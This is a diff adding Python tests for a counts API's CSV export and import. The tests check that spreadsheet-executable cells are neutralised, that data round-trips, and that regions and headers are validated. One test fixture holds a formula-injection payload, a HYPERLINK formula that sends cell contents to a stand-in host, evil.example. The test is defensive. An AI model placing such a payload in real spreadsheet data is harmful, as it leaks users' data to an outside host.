@@ -4,6 +4,8 @@ import csv
 import io
 from datetime import date, timedelta
 
+from sqlalchemy import text
+
 from tests.conftest import ADMIN
 from tests.helpers import put_count, put_office, today
 from tests.progress_helpers import counts, office, regions, status_of
@@ -150,3 +152,106 @@ async def test_bad_parameters_are_422(client):
         await status_of(client, url, region="73", **{"from": "2010-01-01", "to": "2020-01-08"})
         == 200
     )
+
+
+# Spreadsheet safety, and export -> import without loss.
+
+RISKY_NOTES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+62 411 123",
+    "-5 dikoreksi",
+    "@SUM(A1:A9)",
+    "\tmasuk",
+    "\rbaris",
+    "'kutip",
+    "''dua kutip",
+    "biasa, aman",
+]
+
+
+async def risky_counts(client):
+    await regions(client, "73", "73.71", "73.71.01")
+    await office(client, "MKS-01", "73.71.01")
+    first = today() - timedelta(days=len(RISKY_NOTES) - 1)
+    for n, note in enumerate(RISKY_NOTES):
+        response = await put_count(client, "MKS-01", first + timedelta(days=n), n, note=note)
+        assert response.status_code == 201, response.text
+
+
+async def test_cells_a_spreadsheet_would_run_are_neutralised(client):
+    await risky_counts(client)
+
+    rows = await get_csv(client, region="73")
+
+    notes = [row[4] for row in rows[1:]]
+    for note in notes:
+        assert not note.startswith(("=", "+", "-", "@", "\t", "\r")), note
+    assert notes == ["'" + note if note[0] in "=+-@\t\r'" else note for note in RISKY_NOTES]
+
+
+async def test_an_export_imports_back_to_the_same_notes(client, db):
+    await risky_counts(client)
+    exported = (await client.get("/api/v1/counts.csv?region=73", headers=ADMIN)).content
+    await db.execute(text("UPDATE counts SET recordings = recordings + 1, note = 'x'"))
+
+    response = await client.post(
+        "/api/v1/counts", content=exported, headers={**ADMIN, "Content-Type": "text/csv"}
+    )
+
+    assert response.status_code == 200, response.text
+    assert response.json() == {"created": 0, "updated": len(RISKY_NOTES), "unchanged": 0}
+    notes = await db.execute(text("SELECT note, recordings FROM counts ORDER BY date"))
+    assert [tuple(row) for row in notes] == [(n, i) for i, n in enumerate(RISKY_NOTES)]
+
+
+async def test_an_import_checks_the_region_column_against_the_office(client, db):
+    await risky_counts(client)
+    await regions(client, "73.72")
+    body = f"office,region,date,recordings,note\r\nMKS-01,73.72,{today()},555,\r\n".encode()
+
+    response = await client.post(
+        "/api/v1/counts", content=body, headers={**ADMIN, "Content-Type": "text/csv"}
+    )
+
+    assert response.status_code == 422, response.text
+    (error,) = response.json()["errors"]
+    assert error["line"] == 2
+    assert "73.71.01" in error["message"]
+    assert await db.scalar(text("SELECT count(*) FROM counts WHERE recordings = 555")) == 0
+
+
+async def test_csv_headers_ignore_case_spaces_and_order_and_take_semicolons(client, db):
+    await risky_counts(client)
+    day = today()
+    for n, body in enumerate(
+        [
+            f" Office , DATE ,Recordings\nMKS-01,{day},101\n",
+            f"office;date;recordings;note\nMKS-01;{day};102;pakai titik koma\n",
+            f"\ufeffrecordings,office,date\n103,MKS-01,{day}\n",
+        ]
+    ):
+        response = await client.post(
+            "/api/v1/counts", content=body.encode(), headers={**ADMIN, "Content-Type": "text/csv"}
+        )
+        assert response.status_code == 200, (n, response.text)
+        stored = await db.scalar(text("SELECT recordings FROM counts ORDER BY date DESC LIMIT 1"))
+        assert stored == 101 + n
+
+
+async def test_a_wrong_header_is_quoted_and_an_open_quote_named(client):
+    await risky_counts(client)
+    headers = {**ADMIN, "Content-Type": "text/csv"}
+
+    wrong = await client.post(
+        "/api/v1/counts", content=b"kantor,tanggal,jumlah\nA,B,1\n", headers=headers
+    )
+    open_quote = await client.post(
+        "/api/v1/counts",
+        content=f'office,date,recordings,note\nMKS-01,{today()},1,"oops\n'.encode(),
+        headers=headers,
+    )
+
+    assert wrong.status_code == 422
+    assert "kantor,tanggal,jumlah" in wrong.json()["detail"]
+    assert open_quote.status_code == 422
+    assert "quote" in open_quote.json()["detail"]
